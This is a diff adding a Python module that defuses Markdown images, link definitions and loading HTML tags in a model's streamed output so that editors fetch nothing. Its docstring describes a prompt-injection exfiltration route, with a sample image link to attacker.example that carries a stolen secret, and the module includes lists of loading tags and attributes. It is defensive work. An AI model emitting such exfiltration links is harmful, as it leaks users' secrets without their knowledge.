@@ -1,0 +1,322 @@
+"""The model's Markdown, made unable to fetch anything when an editor renders it.
+
+A prompt-injected model can answer `![x](https://attacker.example/p?d=<a secret it read>)`:
+Zed and VS Code render the answer as Markdown and fetch the image, so the secret leaves with
+no tool call and no question, even with the sandbox's network off. Every image is shown as
+its text instead (`![` becomes `!\\[`, which a renderer draws as `![`), whatever its
+address: a `data:` URI or a workspace path fetches nothing remote, but telling them apart
+means parsing a destination the way each renderer does (entities, escapes, `//host`), and
+an image the model shows from the workspace is not worth that risk. Likewise:
+
+- a link reference definition (`[1]: https://…`, which a `![x][1]` anywhere in the message
+  would load) has its `[` escaped, so it is text;
+- a raw HTML tag that loads (`<img>`, `<picture>`, `<video>`, …, or any tag with a `src`,
+  `srcset`, `href`, `style`, `background`, `poster` or `data` attribute) has its `<`
+  escaped; at a line's start every tag is (an HTML block would change what is code);
+- nothing inside a fenced code block is touched: there nothing renders.
+
+Each rule errs towards escaping: a construct cut short by the end of the stream, or longer
+than `_CAP` while undecided, is escaped; an escaped construct looks the same once rendered.
+It streams: only the characters that may start a construct are held back (from a `!`, a
+`<`, a line's first few characters), and `flush` lets them go when something else is sent.
+"""
+
+from __future__ import annotations
+
+import re
+
+_CAP = 512  # characters a construct may stay undecided before it is escaped
+_SPECIAL = re.compile(r"[!<\n\\`]")
+_CONTAINER = re.compile(r"(?:[ \t]|>|[-*+](?=[ \t])|\d{1,9}[.)](?=[ \t]))*")
+_MARKER_SO_FAR = re.compile(r"\d{1,9}[.)]?|[-*+]")
+_BLANK_LINE = re.compile(r"[ \t]*\n")
+_TAG_NAME = re.compile(r"[A-Za-z][A-Za-z0-9-]*")
+_LABEL_END = re.compile(r"(?<!\\)\]")
+_LOADS = frozenset(
+    {
+        "img",
+        "image",
+        "picture",
+        "source",
+        "video",
+        "audio",
+        "iframe",
+        "frame",
+        "frameset",
+        "object",
+        "embed",
+        "applet",
+        "svg",
+        "math",
+        "input",
+        "link",
+        "style",
+        "script",
+        "body",
+        "track",
+        "meta",
+        "base",
+        "bgsound",
+        "portal",
+        "fencedframe",
+    }
+)
+_LOADING_ATTRIBUTE = re.compile(
+    r"(?:^|[\s/\"'])(?:src|srcset|href|xlink:href|background|poster|style|data|lowsrc|dynsrc"
+    r"|codebase|action|formaction|ping|longdesc|manifest|icon)\s*=",
+    re.IGNORECASE,
+)
+
+_NEED, _ESCAPE, _KEEP = 0, 1, 2
+
+
+class ImageDefuser:
+    """One stream of the model's Markdown (an answer, or its thinking), defused as it comes."""
+
+    def __init__(self) -> None:
+        self._pending = ""
+        self._fence: tuple[str, int, int] | None = None  # the open fence: char, length, indent
+        self._opener: tuple[str, int, int] | None = None  # this line may open one
+        self._opener_tainted = False  # a backtick after a ``` opener: not a fence
+        self._line_start = True
+        self._fence_allowed = True
+        self._in_fence_line = False
+        self._ended_line = True  # the last character let out was a newline
+
+    def feed(self, text: str) -> str:
+        """What of the stream so far may be sent now."""
+        self._pending += text
+        return self._run(final=False)
+
+    def flush(self) -> str:
+        """The rest, undecided constructs escaped; what follows is read as a new message
+        (what a client that starts a new block there sees). Outside any fence then, the
+        safe side for one that appends instead; a fence may open on its first line only if
+        the text sent so far ended a line, as in both readings."""
+        out = self._run(final=True) if self._pending else ""
+        self._fence = self._opener = None
+        self._in_fence_line = False
+        self._line_start = True
+        self._fence_allowed = self._ended_line
+        return out
+
+    def _run(self, *, final: bool) -> str:
+        s = self._pending
+        out: list[str] = []
+        i = 0
+        while i < len(s):
+            i, waiting = self._step(s, i, final, out)
+            if waiting:
+                break
+        self._pending = s[i:]
+        text = "".join(out)
+        if text:
+            self._ended_line = text.endswith("\n")
+        return text
+
+    def _step(self, s: str, i: int, final: bool, out: list[str]) -> tuple[int, bool]:
+        """Let out what starts at `i`; the next position, or None to wait for more."""
+        if self._in_fence_line:
+            end = s.find("\n", i)
+            if end < 0:
+                out.append(s[i:])
+                return len(s), False
+            out.append(s[i : end + 1])
+            self._in_fence_line = False
+            self._line_start = self._fence_allowed = True
+            return end + 1, False
+        if self._line_start:
+            return self._fence_line(s, i, final, out) if self._fence else self._new_line(s, i, final, out)
+        return self._inline(s, i, final, out)
+
+    def _fence_line(self, s: str, i: int, final: bool, out: list[str]) -> tuple[int, bool]:
+        assert self._fence is not None
+        char, length, indent = self._fence
+        j = i
+        while j < len(s) and s[j] in " \t":
+            j += 1
+        k = j
+        while k < len(s) and s[k] == char:
+            k += 1
+        if k == len(s) and not final and k - j < length:
+            return i, True
+        self._line_start = False
+        if k - j >= length:  # closed (a line a renderer keeps as code closes it early: safe)
+            out.append(s[i:k])
+            self._fence = None
+            return k, False
+        if j < len(s) and s[j] != "\n" and _width(s[i:j]) < indent:
+            # A container the fence was in has ended, and the fence with it.
+            self._fence = None
+            self._line_start = True
+            return i, False
+        self._in_fence_line = True
+        return i, False
+
+    def _new_line(self, s: str, i: int, final: bool, out: list[str]) -> tuple[int, bool]:
+        j = i
+        while j < len(s) and j - i < 3 and s[j] == " ":
+            j += 1
+        if j < len(s) and s[j] in "`~":
+            k = j
+            while k < len(s) and s[k] == s[j]:
+                k += 1
+            if k == len(s) and not final:
+                return i, True
+            if k - j >= 3 and self._fence_allowed:
+                out.append(s[i:k])
+                self._opener, self._opener_tainted = (s[j], k - j, j - i), False
+                self._line_start = False
+                return k, False
+        elif j == len(s) and not final:
+            return i, True
+        prefix = _CONTAINER.match(s, i)
+        p = prefix.end() if prefix else i
+        rest = s[p : p + 12]
+        if not final and p - i < _CAP and (rest == "" or _MARKER_SO_FAR.fullmatch(rest)):
+            return i, True
+        if p < len(s) and s[p] == "[":
+            verdict = _definition(s, p + 1, final)
+        elif p < len(s) and s[p] == "<":
+            verdict = _line_tag(s, p + 1, final)
+        else:
+            verdict = _KEEP
+        if verdict == _NEED:
+            return i, True
+        self._line_start = False
+        out.append(s[i:p])
+        if verdict == _ESCAPE:
+            out.append("\\" + s[p])
+            return p + 1, False
+        return p, False
+
+    def _inline(self, s: str, i: int, final: bool, out: list[str]) -> tuple[int, bool]:
+        match = _SPECIAL.search(s, i)
+        if match is None:
+            out.append(s[i:])
+            return len(s), False
+        q = match.start()
+        out.append(s[i:q])
+        c = s[q]
+        if c == "\n":
+            if self._opener is not None and not (self._opener[0] == "`" and self._opener_tainted):
+                self._fence = self._opener
+            self._opener = None
+            out.append(c)
+            self._line_start = self._fence_allowed = True
+            return q + 1, False
+        if c == "`":
+            self._opener_tainted = True
+            out.append(c)
+            return q + 1, False
+        if c == "\\":
+            if q + 1 == len(s):
+                if not final:
+                    return q, True
+                out.append(c)
+                return q + 1, False
+            if s[q + 1] == "\n":
+                out.append(c)
+                return q + 1, False
+            self._opener_tainted = self._opener_tainted or s[q + 1] == "`"
+            out.append(s[q : q + 2])
+            return q + 2, False
+        verdict = _image(s, q + 1, final) if c == "!" else _inline_tag(s, q + 1, final)
+        if verdict == _NEED:
+            return q, True
+        if verdict == _KEEP:
+            out.append(c)
+            return q + 1, False
+        if c == "!":
+            out.append("!\\[")
+            return q + 2, False
+        out.append("\\<")
+        return q + 1, False
+
+
+def _width(indent: str) -> int:
+    return sum(4 if c == "\t" else 1 for c in indent)
+
+
+def _image(s: str, j: int, final: bool) -> int:
+    """After a `!`: escape it if it may start an image."""
+    if j == len(s):
+        return _KEEP if final else _NEED
+    if s[j] != "[":
+        return _KEEP
+    depth = 0
+    k = j
+    while k < len(s):
+        if k - j > _CAP:
+            return _ESCAPE
+        c = s[k]
+        if c == "\\":
+            k += 2
+            continue
+        if c in "`<":  # a code span or a tag in the text: where it closes is not ours to guess
+            return _ESCAPE
+        if c == "\n" and _BLANK_LINE.match(s, k + 1):
+            return _KEEP  # the paragraph ended first
+        if c == "[":
+            depth += 1
+        elif c == "]":
+            depth -= 1
+            if depth == 0:
+                if k + 1 == len(s):
+                    return _ESCAPE if final else _NEED
+                return _ESCAPE if s[k + 1] in "([" else _KEEP
+        k += 1
+    return _ESCAPE if final else _NEED
+
+
+def _definition(s: str, j: int, final: bool) -> int:
+    """A line (in its containers) starting with `[`: escape it if it may define a link,
+    whose address an image elsewhere in the message would load."""
+    end = s.find("\n", j)
+    line = s[j:] if end < 0 else s[j:end]
+    close = _LABEL_END.search(line)
+    if close is None:  # the label may go on past the line
+        return _ESCAPE if end >= 0 or final or len(line) > _CAP else _NEED
+    after = close.end()
+    if after == len(line):
+        if end < 0 and not final:
+            return _NEED
+        return _KEEP
+    return _ESCAPE if line[after] == ":" else _KEEP
+
+
+def _line_tag(s: str, j: int, final: bool) -> int:
+    """A `<` at a line's start: any tag, comment or declaration could open an HTML block,
+    in which a fence is no fence: escaped."""
+    if j == len(s):
+        return _ESCAPE if final else _NEED
+    return _ESCAPE if s[j].isascii() and (s[j].isalpha() or s[j] in "!?/") else _KEEP
+
+
+def _inline_tag(s: str, j: int, final: bool) -> int:
+    """A `<` inside a line: escaped if it starts a tag that loads something."""
+    if j == len(s):
+        return _KEEP if final else _NEED
+    name = _TAG_NAME.match(s, j)
+    if name is None:
+        return _KEEP
+    e = name.end()
+    if e == len(s):
+        return _ESCAPE if final or e - j > _CAP else _NEED
+    if name.group().lower() in _LOADS:
+        return _ESCAPE
+    if s[e] not in " \t\n\r\f/>":
+        return _KEEP
+    gt = s.find(">", e)
+    attributes = s[e:] if gt < 0 else s[e:gt]
+    if _LOADING_ATTRIBUTE.search(attributes):
+        return _ESCAPE
+    if gt >= 0:
+        return _KEEP
+    return _ESCAPE if final or len(attributes) > _CAP else _NEED
+
+
+def defuse(text: str) -> str:
+    """A whole text (a stored answer shown again), defused."""
+    defuser = ImageDefuser()
+    return defuser.feed(text) + defuser.flush()
